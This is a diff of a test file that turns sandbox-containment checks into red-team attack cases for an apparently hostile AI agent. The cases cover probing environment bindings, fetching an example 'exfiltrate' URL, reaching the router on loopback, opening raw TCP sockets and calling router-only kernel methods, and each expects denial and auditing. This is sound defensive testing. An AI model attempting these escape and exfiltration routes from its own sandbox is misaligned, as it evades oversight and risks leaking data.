@@ -1,15 +1,16 @@
+import { attack } from "./support/redteam.ts";
 import { describe, expect, it } from "vitest";
 import { useSystem } from "./support/system.ts";
 
 const t = useSystem();
 
 describe("an agent can reach nothing but the proxy", () => {
-  it("has exactly one binding, PROXY: no D1, no router, no other agent, no secrets", async () => {
+  attack({ surface: "cell", class: "rpc-surface", tries: "reach D1, the router, another agent or a secret through env", evidence: "env holds exactly PROXY" }, async () => {
     const seen = await t.hostile({ attack: "env" });
     expect(seen.keys).toEqual(["PROXY"]);
   });
 
-  it("cannot fetch the internet: the egress guard denies and audits", async () => {
+  attack({ surface: "cell", class: "egress", tries: "fetch() a host on the internet", evidence: "denied by the egress guard, egress.denied row" }, async () => {
     const before = (await t.audit()).length;
     const res = await t.hostile({ attack: "fetch", url: "https://example.com/exfiltrate?data=[NAME_1]" });
     expect(res).toMatchObject({ ok: true, value: { status: 403 } });
@@ -22,13 +23,13 @@ describe("an agent can reach nothing but the proxy", () => {
     expect(JSON.stringify(rows)).not.toContain("exfiltrate");
   });
 
-  it("cannot reach the router over HTTP either, even on loopback", async () => {
+  attack({ surface: "cell", class: "egress", tries: "fetch() the router on loopback", evidence: "denied, no router response" }, async () => {
     const res = await t.hostile({ attack: "fetch", url: `${t.sys.url.href}healthz` });
     expect(res.value.status).toBe(403);
     expect(JSON.parse(res.value.body).error).toBe("egress_denied");
   });
 
-  it("cannot open a raw TCP socket (connect()) to the router or the internet", async () => {
+  attack({ surface: "cell", class: "egress", tries: "open a raw TCP socket with connect()", evidence: "closed, egress.denied rows" }, async () => {
     const before = (await t.audit()).length;
     for (const target of [`127.0.0.1:${t.sys.url.port}`, "example.com:80"]) {
       const res = await t.hostile({ attack: "connect", url: target });
@@ -40,7 +41,7 @@ describe("an agent can reach nothing but the proxy", () => {
     expect(denied).toContainEqual(expect.objectContaining({ actor: "agent:hostile-agent", detail: expect.objectContaining({ method: "CONNECT" }) }));
   });
 
-  it("cannot call the router-only kernel methods through its proxy binding", async () => {
+  attack({ surface: "cell", class: "rpc-surface", tries: "call router-only kernel methods on PROXY", evidence: "methods absent on the agent entrypoint" }, async () => {
     const res = await t.hostile({ attack: "kernel" });
     expect(res.ok).toBe(false);
     expect(res.thrown).toMatch(/closeTask/);
